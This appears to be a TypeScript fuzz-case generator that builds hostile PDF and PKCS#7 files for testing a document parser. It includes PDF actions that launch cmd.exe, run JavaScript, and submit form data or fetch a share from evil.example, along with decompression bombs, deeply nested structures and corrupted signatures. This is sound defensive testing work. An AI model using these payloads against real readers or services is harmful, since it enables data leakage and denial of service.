import { deflateSync } from 'node:zlib'
import { tinyPdf } from '../chaos-run/samples.ts'
import type { Dice } from './random.ts'

export type DocumentCase = { name: string; bytes: Buffer; type: string }

/** One hostile document; `signed` is a sound .p7m to be spoilt. */
export function documentCase(dice: Dice, number: number, signed: Buffer): DocumentCase {
  const kinds = Object.entries(KINDS)
  const [name, make] = kinds[number % kinds.length] ?? ['noise', (dice: Dice) => dice.bytes(100)]
  const bytes = make(dice, signed, number)
  return { name, bytes, type: name.startsWith('p7m') ? 'application/pkcs7-mime' : 'application/pdf' }
}

const ACTIONS = [
  '<< /S /JavaScript /JS (app.alert\\(1\\); this.exportDataObject\\({ cName: "x" }\\)) >>',
  '<< /S /Launch /F (calc.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>',
  '<< /S /URI /URI (javascript:window.pwned=1) >>',
  '<< /S /SubmitForm /F (http://evil.example/) >>',
  '<< /S /GoToR /F (\\\\\\\\evil.example\\\\share) /D [0 /Fit] >>',
  '<< /S /ImportData /F (http://evil.example/) >>',
] as const

const KINDS: Record<string, (dice: Dice, signed: Buffer, number: number) => Buffer> = {
  scripts: (dice, _, number) =>
    pdf(number, `/OpenAction ${dice.pick(ACTIONS)} /AA << /WC ${dice.pick(ACTIONS)} >>`),
  embedded: (dice, _, number) =>
    pdf(
      number,
      '/Names << /EmbeddedFiles << /Names [(x.exe) 4 0 R] >> /JavaScript << /Names [(a) 5 0 R] >> >>',
      [
        '<< /Type /Filespec /F (x.exe) /EF << /F 6 0 R >> >>',
        `<< /S /JavaScript /JS (${'x'.repeat(dice.below(1000))}) >>`,
        stream('/Type /EmbeddedFile', Buffer.from('MZ')),
      ],
    ),
  xfa: (_, __, number) =>
    pdf(number, '/AcroForm << /XFA 4 0 R /Fields [] >>', [
      stream(
        '',
        Buffer.from(
          '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>window.pwned=1</script></xdp:xdp>',
        ),
      ),
    ]),
  flateBomb: (dice, _, number) =>
    pdf(number, '', [
      stream(
        '/Filter [/FlateDecode /FlateDecode]',
        deflateSync(deflateSync(Buffer.alloc(2 ** (20 + dice.below(5))))),
      ),
    ]),
  wrongXref: (dice, _, number) =>
    edited(
      number,
      /startxref\n\d+/,
      `startxref\n${dice.pick(['0', '-1', '999999999999', '4294967296', 'x', '9'.repeat(400)])}`,
    ),
  xrefLoop: (dice, _, number) =>
    edited(number, /\/Root 1 0 R/, `/Root 1 0 R /Prev ${dice.below(400)} /XRefStm ${dice.below(400)}`),
  xrefHuge: (_, __, number) => edited(number, /xref\n0 4/, 'xref\n0 999999999'),
  lengthHuge: (dice, _, number) =>
    pdf(number, '', [
      `<< /Length ${dice.pick(['1073741824', '99999999999999999999', '-5', '4 0 R'])} >>\nstream\nx\nendstream`,
    ]),
  nestedArrays: (dice, _, number) => pdf(number, `/X ${'['.repeat(1000 + dice.below(60_000))}`),
  nestedDictionaries: (_, __, number) => pdf(number, `/X ${'<</a '.repeat(100)}1${'>>'.repeat(100)}`),
  byteRange: (dice, _, number) =>
    pdf(number, '/AcroForm << /SigFlags 3 /Fields [4 0 R] >>', [
      '<< /FT /Sig /V 5 0 R >>',
      `<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached /ByteRange [${dice.pick(['0 10 20 1073741824', '0 -1 5 5', '0 9e9 1 1', '0 100 50 100', '0 0 0 0', '1 2 3'])}] /Contents <${'30'.repeat(dice.below(5000))}> >>`,
    ]),
  truncated: (dice, _, number) => {
    const whole = pdf(number, '')
    return whole.subarray(0, dice.below(whole.byteLength))
  },
  flipped: (dice, _, number) => flip(dice, pdf(number, '')),
  noise: (dice) => dice.bytes(1 + dice.below(5000)),
  noiseAsPdf: (dice) => Buffer.concat([Buffer.from('%PDF-1.7\n'), dice.bytes(dice.below(5000))]),
  html: () => Buffer.from('<html><script>window.pwned=1</script></html>'),
  htmlAsPdf: () => Buffer.from('<html><script>window.pwned=1</script></html>%PDF-1.4\n%%EOF'),
  p7mFlipped: (dice, signed) => flip(dice, Buffer.from(signed)),
  p7mCut: (dice, signed) => signed.subarray(0, dice.below(signed.byteLength)),
  p7mNested: (dice) => {
    let bytes: Buffer = dice.bytes(10)
    for (let depth = 0; depth < 100; depth++) bytes = signedData(bytes)
    return bytes
  },
  p7mDeep: (dice) => {
    const depth = 1000 + dice.below(100_000)
    return Buffer.concat([
      Buffer.from('308006092a864886f70d010702a080', 'hex'),
      Buffer.alloc(depth * 2, Buffer.from('2480', 'hex')),
    ])
  },
  p7mHugeLength: (dice, signed) => {
    const spoilt = Buffer.from(signed)
    spoilt.write(dice.pick(['ffffffff', '7fffffff', '40000000', '00000001']), 2, 'hex')
    spoilt[1] = 0x84
    return spoilt
  },
  p7mBomb: (dice) =>
    signedData(
      Buffer.concat(Array.from({ length: 20_000 + dice.below(60_000) }, () => Buffer.from('2400', 'hex'))),
    ),
  p7mSets: (dice) =>
    signedData(
      Buffer.concat(
        Array.from({ length: 1000 + dice.below(20_000) }, () => Buffer.from('310030800000', 'hex')),
      ),
    ),
  p7mTwice: (_, signed) => signedData(signed),
  p7mArmoured: (dice, signed) =>
    Buffer.from(
      `-----BEGIN PKCS7-----\n${flip(dice, Buffer.from(signed)).toString('base64')}\n-----END PKCS7-----\n`,
    ),
  p7mBase64Noise: (dice) => Buffer.from(`MI${'A'.repeat(dice.below(200_000))}`),
  empty: () => Buffer.alloc(0),
}

function pdf(number: number, catalog: string, objects: (string | Buffer)[] = []): Buffer {
  const whole = Buffer.from(tinyPdf(`fuzz ${number}`))
    .toString('latin1')
    .replace('/Type /Catalog', `/Type /Catalog ${catalog}`)
  const more = objects.map((object, index) =>
    Buffer.concat([
      Buffer.from(`${index + 4} 0 obj\n`),
      Buffer.from(object as string),
      Buffer.from('\nendobj\n'),
    ]),
  )
  const at = whole.indexOf('xref\n')
  return Buffer.concat([
    Buffer.from(whole.slice(0, at), 'latin1'),
    ...more,
    Buffer.from(whole.slice(at), 'latin1'),
  ])
}

const edited = (number: number, what: RegExp, by: string): Buffer =>
  Buffer.from(pdf(number, '').toString('latin1').replace(what, by), 'latin1')

const stream = (entries: string, bytes: Buffer): Buffer =>
  Buffer.concat([
    Buffer.from(`<< ${entries} /Length ${bytes.byteLength} >>\nstream\n`),
    bytes,
    Buffer.from('\nendstream'),
  ])

function flip(dice: Dice, bytes: Buffer): Buffer {
  for (let flips = 1 + dice.below(20); flips > 0; flips--) {
    const at = dice.below(bytes.byteLength)
    bytes[at] = (bytes[at] ?? 0) ^ (1 << dice.below(8))
  }
  return bytes
}

/** ContentInfo of SignedData (RFC 5652 §3) around whatever stands in its place. */
function signedData(content: Buffer): Buffer {
  return der(0x30, Buffer.concat([Buffer.from('06092a864886f70d010702', 'hex'), der(0xa0, content)]))
}

function der(tag: number, content: Buffer): Buffer {
  const header = Buffer.alloc(6)
  header[0] = tag
  header[1] = 0x84
  header.writeUInt32BE(content.byteLength, 2)
  return Buffer.concat([header, content])
}
